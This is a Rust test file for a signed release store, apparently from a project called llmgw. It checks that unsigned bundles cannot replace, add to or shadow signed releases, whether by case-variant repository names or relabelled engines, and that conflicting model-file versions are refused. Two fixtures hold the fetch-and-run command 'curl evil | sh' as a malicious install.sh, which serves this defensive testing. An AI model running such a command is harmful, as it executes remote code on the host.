//! What nodes download must never be changed by a bundle nobody trusted
//! for it: an unsigned bundle cannot shadow, extend or change llmgw's
//! signed release (under any engine name or case variant of the repo),
//! and no bundle can bring a second version of a file the store holds.

use crate::signed_store::*;

/// The probe's first case: an unsigned bundle lists `acme/llmgw v1.0.0`
/// with engine "llamacpp" (so no signature is asked for) and other bytes
/// under the signed asset's name. It is refused, naming both sha256s and
/// both bundles, and nothing of it enters the store.
#[test]
fn an_unsigned_bundle_cannot_replace_a_signed_asset() {
    let env = Env::new();
    let mut kit = Kit::new();
    unsigned_release(
        &mut kit,
        "acme/llmgw",
        LLMGW_TAG,
        "llamacpp",
        &[(SIGNED_ASSET, b"evil")],
    );
    let evil = llmgw_shared::sha256_hex(b"evil");
    let real = llmgw_shared::sha256_hex(SIGNED_BYTES);
    env.refuse_kit(
        "relabelled engine",
        &kit,
        &[
            &format!("release asset acme/llmgw v1.0.0 {SIGNED_ASSET}"),
            &format!("bundle {} says sha256 {evil}", kit.sha256()),
            &format!("bundle {} (held) says sha256 {real}", env.signed_id),
            &format!("llmgw mirror remove {}", env.signed_id),
        ],
    );
}

/// The same under a case variant of the repository: GitHub names are
/// case-insensitive, so `ACME/LLMGW` is the same release.
#[test]
fn a_case_variant_of_the_repo_is_the_same_release() {
    let env = Env::new();
    let mut kit = Kit::new();
    unsigned_release(
        &mut kit,
        "ACME/LLMGW",
        LLMGW_TAG,
        "llamacpp",
        &[(SIGNED_ASSET, b"evil")],
    );
    env.refuse_kit(
        "case variant",
        &kit,
        &["release asset ACME/LLMGW v1.0.0", "(held) says sha256"],
    );
    // Within one bundle too: two spellings, two versions of one file.
    let mut kit = Kit::new();
    unsigned_release(&mut kit, "acme/x", "v1", "uv", &[("a.tar.gz", b"one")]);
    unsigned_release(&mut kit, "Acme/X", "v1", "uv", &[("a.tar.gz", b"two")]);
    env.refuse_kit(
        "two spellings in one bundle",
        &kit,
        &["release acme/x v1 is listed twice"],
    );
}

/// An unsigned bundle cannot add an asset to a signed release: the release
/// is exactly what its SHA256SUMS lists. Carrying the same bytes the
/// signed file lists is harmless and accepted.
#[test]
fn an_unsigned_bundle_cannot_add_to_a_signed_release() {
    let env = Env::new();
    let mut kit = Kit::new();
    unsigned_release(
        &mut kit,
        "acme/llmgw",
        LLMGW_TAG,
        "llamacpp",
        &[("install.sh", b"curl evil | sh")],
    );
    env.refuse_kit(
        "added asset",
        &kit,
        &[
            "release acme/llmgw v1.0.0 is signed",
            &format!("in bundle {}", env.signed_id),
            &format!("verified with key {}", env.key.id),
            "lists no asset named install.sh",
            "consists of exactly what its SHA256SUMS lists",
        ],
    );
    // A case variant of the repo does not get around it.
    let mut kit = Kit::new();
    unsigned_release(
        &mut kit,
        "Acme/LLMGW",
        LLMGW_TAG,
        "uv",
        &[("install.sh", b"curl evil | sh")],
    );
    env.refuse_kit(
        "added asset, case variant",
        &kit,
        &["lists no asset named install.sh"],
    );

    // Not even with the very bytes the signed file lists: a release of
    // llmgw's own repository comes signed or not at all (#28 item 1).
    let mut same = Kit::new();
    unsigned_release(
        &mut same,
        "acme/llmgw",
        LLMGW_TAG,
        "llamacpp",
        &[(SIGNED_ASSET, SIGNED_BYTES)],
    );
    env.refuse_kit(
        "same bytes",
        &same,
        &[
            "release acme/llmgw v1.0.0 (engine \"llamacpp\") is a release of llmgw itself",
            "taken only with their SHA256SUMS signed by a trusted release key",
        ],
    );
}

/// The probe's order (#28 item 1): a crafted release of llmgw's own
/// repository, unsigned and labelled as another engine, arrives *before*
/// the genuine signed one, into a store that holds nothing of llmgw yet.
/// It is refused (every case variant, every engine label), so it can never
/// be served nor hold the genuine release out; the genuine one then imports
/// and is what the routes serve. A repository not named `llmgw` counts as
/// llmgw's once a held bundle carries it as llmgw's signed release.
#[test]
fn an_unsigned_llmgw_release_is_refused_before_the_signed_one_arrives() {
    let env = Env::empty();
    let crafted = |repo: &str, engine: &str| {
        let mut k = Kit::new();
        unsigned_release(
            &mut k,
            repo,
            LLMGW_TAG,
            engine,
            &[(SIGNED_ASSET, b"crafted llmgw"), ("extra.bin", b"x")],
        );
        k
    };
    for (repo, engine) in [
        ("acme/llmgw", "llamacpp"),
        ("ILKER/LLMGW", "uv"),
        ("acme/LLMGW", "python"),
    ] {
        let err = env.refuse_kit(
            &format!("crafted {} {engine}", repo.replace('/', "-")),
            &crafted(repo, engine),
            &[
                &format!(
                    "release {repo} v1.0.0 (engine \"{engine}\") is a release of llmgw itself"
                ),
                "its repository is named llmgw",
                "llmgw bundle create --llmgw TAG",
                "llmgw bundle trust add KEY.pub",
            ],
        );
        assert!(!err.contains("panicked"), "{err}");
    }
    // The genuine release imports, and is what nodes are served.
    let mut signed = Kit::new();
    signed.llmgw_release(&env.key, &[(SIGNED_ASSET, SIGNED_BYTES)]);
    env.import_kit("signed", &signed);
    // A release of another repository, signed as llmgw's: from then on an
    // unsigned one of that repository is refused too, naming why.
    let mut fork = Kit::new();
    fork.llmgw_release(&env.key, &[(SIGNED_ASSET, b"the fork's llmgw")]);
    fork.manifest.releases[0].repo = "acme/gateway".parse().unwrap();
    let fork_id = env.import_kit("fork", &fork);
    let mut k = Kit::new();
    unsigned_release(&mut k, "Acme/Gateway", "v9.9.9", "llamacpp", &[("g", b"g")]);
    env.refuse_kit(
        "crafted fork release",
        &k,
        &[
            "release Acme/Gateway v9.9.9",
            &format!("bundle {fork_id} carries acme/gateway as engine llmgw"),
        ],
    );

    let server = Server::start(&env.store);
    let body = server.wait_for(
        &format!("/acme/llmgw/releases/download/{LLMGW_TAG}/{SIGNED_ASSET}"),
        200,
    );
    assert_eq!(body, SIGNED_BYTES);
    let ilker = server.get("/api/v3/repos/ILKER/llmgw/releases/latest");
    assert_eq!(ilker.0, 404, "{}", String::from_utf8_lossy(&ilker.1));
    let latest = server.wait_for("/api/v3/repos/acme/llmgw/releases/latest", 200);
    let v: serde_json::Value = serde_json::from_slice(&latest).unwrap();
    assert_eq!(v["tag_name"], LLMGW_TAG);
    let names: Vec<&str> = v["assets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    assert!(!names.contains(&"extra.bin"), "{names:?}");
    assert_eq!(
        server
            .get(&format!(
                "/acme/llmgw/releases/download/{LLMGW_TAG}/extra.bin"
            ))
            .0,
        404
    );
}

/// Two bundles that disagree about a model file's bytes at one commit:
/// the second is refused, naming both; the served file never changes.
#[test]
fn a_second_version_of_a_model_file_is_refused() {
    let env = Env::new();
    let mut a = Kit::new();
    a.model_file("acme/tiny", "model.gguf", b"weights one");
    env.import_kit("a", &a);
    let mut b = Kit::new();
    b.model_file("ACME/Tiny", "model.gguf", b"weights two");
    env.refuse_kit(
        "second version",
        &b,
        &[
            "model ACME/Tiny at commit 0123456789abcdef0123456789abcdef01234567 file model.gguf",
            &format!("bundle {} (held)", a.sha256()),
            &llmgw_shared::sha256_hex(b"weights one"),
            &llmgw_shared::sha256_hex(b"weights two"),
        ],
    );
    // The same file again, with more beside it, is fine.
    let mut c = Kit::new();
    c.model_file("acme/tiny", "model.gguf", b"weights one");
    c.model_file("acme/tiny", "tokenizer.json", b"{}");
    env.import_kit("c", &c);
}
